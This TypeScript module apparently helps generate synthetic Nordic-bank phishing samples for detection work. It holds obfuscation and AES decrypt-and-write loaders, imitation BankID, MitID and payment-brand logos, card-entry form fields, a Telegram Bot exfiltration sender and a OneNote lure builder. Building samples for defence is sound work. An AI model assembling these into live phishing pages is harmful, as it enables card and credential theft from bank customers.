import { createCipheriv } from 'node:crypto';

/**
 * Shared helpers for author `yx` (Nordic bank-group SOC persona): page shells, encoders, inline SVG
 * logos and a few parametrised form fragments. Parts hold no pages.
 */

export type Doc = { lang: string; title: string; body: string; css?: string; head?: string; bodyAttrs?: string };

/** A full HTML document. */
export const doc = (d: Doc): string =>
  `<!DOCTYPE html>\n<html lang="${d.lang}">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>${d.title}</title>\n${d.head ?? ''}${d.css ? `<style>\n${d.css}\n</style>\n` : ''}</head>\n<body${d.bodyAttrs ? ' ' + d.bodyAttrs : ''}>\n${d.body}\n</body>\n</html>\n`;

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const codes = (s: string): string => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
/** Reverses a string (kits store URLs reversed and flip them at run time). */
export const rev = (s: string): string => Array.from(s).reverse().join('');
/** XOR with a single-byte key, then base64. */
export const xorB64 = (s: string, key: number): string => Buffer.from(Buffer.from(s, 'utf8').map((b) => b ^ key)).toString('base64');
/** Splits a string into chunks of n characters as a JS array literal body ('ab','cd',...). */
export const chunks = (s: string, n: number): string => {
  const out: string[] = [];
  for (let i = 0; i < s.length; i += n) out.push(`'${s.slice(i, i + n).replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`);
  return out.join(',');
};

/** AES-256-GCM with a fixed key and IV (hex); returns base64 of ciphertext||tag as WebCrypto expects. */
export function aesGcm(plain: string, keyHex: string, ivHex: string): string {
  const c = createCipheriv('aes-256-gcm', Buffer.from(keyHex, 'hex'), Buffer.from(ivHex, 'hex'));
  const body = Buffer.concat([c.update(plain, 'utf8'), c.final()]);
  return Buffer.concat([body, c.getAuthTag()]).toString('base64');
}

/** The page-side decryptor for aesGcm(): replaces the document with the decrypted markup. */
export const aesLoader = (blob: string, keyHex: string, ivHex: string): string =>
  `(async function(){var h=function(x){return new Uint8Array(x.match(/../g).map(function(b){return parseInt(b,16)}))};` +
  `var d=Uint8Array.from(atob('${blob}'),function(c){return c.charCodeAt(0)});` +
  `var k=await crypto.subtle.importKey('raw',h('${keyHex}'),{name:'AES-GCM'},false,['decrypt']);` +
  `var p=await crypto.subtle.decrypt({name:'AES-GCM',iv:h('${ivHex}')},k,d);` +
  `document.open();document.write(new TextDecoder().decode(p));document.close();})();`;

// ------------------------------------------------------------------ logos (inline SVG)

export const logo = {
  bankidSe: (h = 48) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 120 48" aria-label="BankID"><path fill="#193e4f" d="M37 25l2-11h-3c-2 0-4-1-3-3 0-1 2-3 3-4 2-2 3-3 3-5h-7c-3 0-5 2-6 5-1 2 1 4 3 4l1 1c0 2-1 2-4 2h-3l-4 24h10l3-13z"/><text x="46" y="34" font-family="Arial" font-weight="700" font-size="20" fill="#193e4f">BankID</text></svg>`,
  bankidNo: (h = 40) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 140 40" aria-label="BankID"><rect width="40" height="40" rx="6" fill="#39134c"/><circle cx="12" cy="12" r="4" fill="#fff"/><circle cx="28" cy="12" r="4" fill="#fff"/><circle cx="12" cy="28" r="4" fill="#fff"/><rect x="24" y="24" width="8" height="8" rx="2" fill="#fff"/><text x="48" y="27" font-family="Arial" font-weight="700" font-size="19" fill="#39134c">BankID</text></svg>`,
  mitid: (h = 36) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 110 36" aria-label="MitID"><rect width="110" height="36" rx="4" fill="#0060e6"/><text x="14" y="25" font-family="Arial" font-weight="700" font-size="19" fill="#fff">MitID</text><circle cx="92" cy="18" r="7" fill="none" stroke="#fff" stroke-width="3"/></svg>`,
  vipps: (h = 36) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 100 36" aria-label="Vipps"><text x="2" y="27" font-family="Arial" font-weight="900" font-size="26" fill="#ff5b24">vipps</text></svg>`,
  mobilepay: (h = 36) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 150 36" aria-label="MobilePay"><rect x="2" y="4" width="18" height="28" rx="4" fill="#5a78ff"/><text x="26" y="25" font-family="Arial" font-weight="700" font-size="19" fill="#1c1c3c">MobilePay</text></svg>`,
  swish: (h = 36) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 110 36" aria-label="Swish"><path d="M8 24c6 6 16 6 22-1M30 12c-6-6-16-6-22 1" stroke="#ee2a7b" stroke-width="5" fill="none"/><text x="40" y="25" font-family="Arial" font-weight="700" font-size="19" fill="#222">Swish</text></svg>`,
  bank: (name: string, color: string, h = 32, fg = '#fff') =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 ${name.length * 14 + 24} 32" aria-label="${name}"><rect width="100%" height="32" rx="3" fill="${color}"/><text x="12" y="22" font-family="Arial,Helvetica" font-weight="700" font-size="17" fill="${fg}">${name}</text></svg>`,
  word: (name: string, color: string, h = 30) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 ${name.length * 15 + 6} 30" aria-label="${name}"><text x="2" y="23" font-family="Arial,Helvetica" font-weight="800" font-size="22" fill="${color}">${name}</text></svg>`,
  crown: (h = 36) =>
    `<svg xmlns="http://www.w3.org/2000/svg" height="${h}" viewBox="0 0 36 36" aria-hidden="true"><circle cx="18" cy="18" r="17" fill="#006aa7"/><path d="M9 22l2-9 4 5 3-7 3 7 4-5 2 9z" fill="#fecc00"/></svg>`,
};

// ------------------------------------------------------------------ fragments

export type Lang = 'sv' | 'no' | 'da' | 'fi' | 'en';

const cardWords: Record<Lang, [string, string, string, string, string]> = {
  sv: ['Kortnummer', 'Giltigt till (MM/ÅÅ)', 'CVC', 'Kortinnehavarens namn', 'Fortsätt'],
  no: ['Kortnummer', 'Utløpsdato (MM/ÅÅ)', 'CVC', 'Navn på kortet', 'Fortsett'],
  da: ['Kortnummer', 'Udløbsdato (MM/ÅÅ)', 'Kontrolcifre (CVC)', 'Kortholders navn', 'Fortsæt'],
  fi: ['Kortin numero', 'Voimassa (KK/VV)', 'CVC', 'Kortinhaltijan nimi', 'Jatka'],
  en: ['Card number', 'Expiry (MM/YY)', 'CVC', 'Name on card', 'Continue'],
};

/** Card-entry fields; `names` lets pages use their own field names (kits differ). */
export function cardFields(lang: Lang, names: [string, string, string, string] = ['cc', 'exp', 'cvv', 'holder'], cls = 'fld'): string {
  const w = cardWords[lang];
  return `<div class="${cls}"><label for="${names[3]}">${w[3]}</label><input id="${names[3]}" name="${names[3]}" autocomplete="cc-name" required></div>
<div class="${cls}"><label for="${names[0]}">${w[0]}</label><input id="${names[0]}" name="${names[0]}" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000" required></div>
<div class="${cls} half"><label for="${names[1]}">${w[1]}</label><input id="${names[1]}" name="${names[1]}" autocomplete="cc-exp" maxlength="5" placeholder="MM/ÅÅ" required></div>
<div class="${cls} half"><label for="${names[2]}">${w[2]}</label><input id="${names[2]}" name="${names[2]}" autocomplete="cc-csc" inputmode="numeric" maxlength="4" required></div>`;
}
export const cardButton = (lang: Lang): string => cardWords[lang][4];

/** A Telegram Bot API sender as kits paste it; `textExpr` is a JS expression yielding the message. */
export const tgSend = (token: string, chat: string, textExpr: string, fn = 'snd'): string =>
  `function ${fn}(m){var u='https://api.telegram.org/bot${token}/sendMessage';return fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:m,parse_mode:'HTML'})}).catch(function(){});}\n` +
  `var __m=${textExpr};`;

/** The footer line Nordic bank pages carry (real or copied). */
export const bankFooter = (name: string, orgLine: string, links: string[]): string =>
  `<footer class="ft"><nav>${links.map((l) => `<a href="#">${l}</a>`).join(' · ')}</nav><p>© ${name} · ${orgLine}</p></footer>`;

/** A plain legit-site header with nav links (clean pages of brands on their own domains). */
export const siteHeader = (brandSvg: string, links: [string, string][], extra = ''): string =>
  `<header class="site"><a class="brand" href="/">${brandSvg}</a><nav>${links.map(([t, h]) => `<a href="${h}">${t}</a>`).join('')}</nav>${extra}</header>`;

/** Common CSS for legit brand pages; colour parametrised. */
export const siteCss = (accent: string, bg = '#fff'): string =>
  `*{box-sizing:border-box}body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;color:#1d1d1f;background:${bg};line-height:1.5}
header.site{display:flex;align-items:center;gap:28px;padding:14px 32px;border-bottom:1px solid #e3e3e3;background:#fff}
header.site nav a{margin-right:20px;color:#222;text-decoration:none;font-size:15px}header.site nav a:hover{color:${accent}}
main{max-width:980px;margin:0 auto;padding:32px 24px}a{color:${accent}}h1{font-size:30px;line-height:1.2}
.btn{display:inline-block;background:${accent};color:#fff;border:0;border-radius:4px;padding:12px 22px;font-size:16px;text-decoration:none;cursor:pointer}
footer.site{border-top:1px solid #e3e3e3;padding:24px 32px;font-size:13px;color:#666;background:#fafafa}footer.site a{color:#555;margin-right:16px}`;

/** A footer for legit brand pages. */
export const siteFooter = (lines: string[], links: string[]): string =>
  `<footer class="site"><div>${links.map((l) => `<a href="/${l.toLowerCase().replace(/[^a-z0-9]+/g, '-')}">${l}</a>`).join('')}</div>${lines.map((l) => `<p>${l}</p>`).join('')}</footer>`;

/** A minimal valid PDF with one line of text (for legit invoices / payslips). */
export function pdf(title: string, line: string): Buffer {
  const esc = (s: string) => s.replace(/[()\\]/g, (m) => '\\' + m);
  const stream = `BT /F1 14 Tf 72 760 Td (${esc(title)}) Tj 0 -24 Td /F1 11 Tf (${esc(line)}) Tj ET`;
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offs: number[] = [];
  objs.forEach((o, i) => {
    offs.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n${offs.map((o) => String(o).padStart(10, '0') + ' 00000 n \n').join('')}`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R /Info << /Title (${esc(title)}) >> >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A OneNote section file: its header GUID and some embedded strings (what a .one lure carries). */
export function oneNote(strings: string[], size = 6144): Buffer {
  const b = Buffer.alloc(size);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(b, 0);
  Buffer.from('3fdd9a10b4e6a648a4a5f7c2b0a5e5d1', 'hex').copy(b, 16);
  let p = 512;
  for (const s of strings) {
    const enc = Buffer.from(s + '\0', 'utf16le');
    if (p + enc.length >= size) break;
    enc.copy(b, p);
    p += enc.length + 16;
  }
  return b;
}

/** A fake QR-code-ish SVG (a grid of squares seeded by `seed`), as pages draw BankID QR codes. */
export function qrSvg(seed: number, size = 180): string {
  let x = seed >>> 0;
  const cells: string[] = [];
  const n = 25;
  const s = size / n;
  const finder = (cx: number, cy: number) => `<rect x="${cx * s}" y="${cy * s}" width="${7 * s}" height="${7 * s}" fill="#000"/><rect x="${(cx + 1) * s}" y="${(cy + 1) * s}" width="${5 * s}" height="${5 * s}" fill="#fff"/><rect x="${(cx + 2) * s}" y="${(cy + 2) * s}" width="${3 * s}" height="${3 * s}" fill="#000"/>`;
  for (let i = 0; i < n; i++)
    for (let j = 0; j < n; j++) {
      if ((i < 8 && j < 8) || (i < 8 && j > n - 9) || (i > n - 9 && j < 8)) continue;
      x = (x * 1103515245 + 12345) >>> 0;
      if ((x >>> 16) & 1) cells.push(`<rect x="${(i * s).toFixed(1)}" y="${(j * s).toFixed(1)}" width="${s.toFixed(1)}" height="${s.toFixed(1)}"/>`);
    }
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 ${size} ${size}"><rect width="${size}" height="${size}" fill="#fff"/>${finder(0, 0)}${finder(n - 7, 0)}${finder(0, n - 7)}<g fill="#000">${cells.join('')}</g></svg>`;
}
